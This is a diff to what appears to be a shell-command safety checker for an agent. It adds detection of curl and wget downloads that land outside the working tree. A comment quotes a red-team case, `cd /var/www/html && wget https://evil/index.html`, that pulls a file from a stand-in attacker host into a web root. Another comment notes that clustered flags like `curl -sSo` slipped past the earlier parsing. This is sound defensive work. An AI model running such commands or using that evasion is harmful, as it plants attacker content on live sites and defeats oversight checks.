@@ -53,6 +53,10 @@ LIVE = "live:"
 PLANTED = "links:"
 #: world-writable scratch space: anything may have been put there, by anyone
 SCRATCH = ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user")
+#: where deploys keep their trees: a download there is a release archive (safe.py's
+#: extract_dir_ok unpacks into them)
+DEPLOY_ROOTS = ("/srv/", "/opt/", "/data/")
+_RELEASE_ARCHIVE = re.compile(r"\.(tgz|tar|tar\.(gz|xz|bz2|zst)|zip|jar|war|whl|deb|rpm)$")
 
 #: tools whose operands are files (``all``) or files after a program/pattern/mode
 #: (``after-first``, unless the program comes by -e/-f)
@@ -674,7 +678,9 @@ def _path_positions(c: SimpleCommand) -> set[int]:
                     out.add(i + 1)
                     i += 2
                     continue
-            elif a in short and i + 1 < len(args):
+            elif (a in short or (not a.startswith("--") and len(a) > 2 and a[1:].isalnum()
+                                 and "-" + a[-1] in short)) and i + 1 < len(args):
+                # -o V, and a short cluster ending in it (curl -sSo V): red team s10
                 out.add(i + 1)
                 i += 2
                 continue
@@ -913,6 +919,20 @@ def flow(commands: tuple[SimpleCommand, ...], line: str = "",
             _add_dirs(state, own)  # the wrapped command runs there (conservatively, onwards)
         out = [x for d in dirs for x in _fetch_targets(c, d, state)] \
             if c.name in _FETCHERS else []
+        if c.name in ("curl", "wget") and not step.unresolved:
+            # a name the download takes from the URL lands where a cd left the line: outside
+            # the tree and scratch it is a write no option spelled (red team s10: `cd
+            # /var/www/html && wget https://evil/index.html`)
+            away = next((t for t in out if t.startswith("/") and not t.startswith("/dev/")
+                         and not _trees_under(norm(t), list(SCRATCH)) and not (
+                             # a deploy root takes a release archive, never code or dot-files
+                             norm(t).startswith(DEPLOY_ROOTS) and not CODE_FILE.search(t)
+                             and not posixpath.basename(t).startswith(".")
+                             and _RELEASE_ARCHIVE.search(t))), None)
+            if away is not None:
+                step.findings.append(FlowFinding(
+                    "guard.unknown", (away,), f"{c.name} saves {away!r}, outside the working "
+                    "tree and scratch space"))
         # what the line writes is the agent's content: never a tool's manifest or code later
         out += [x for d in dirs for x in _written(c, d, state)]
         if state.live or state.live_here or state.sown:
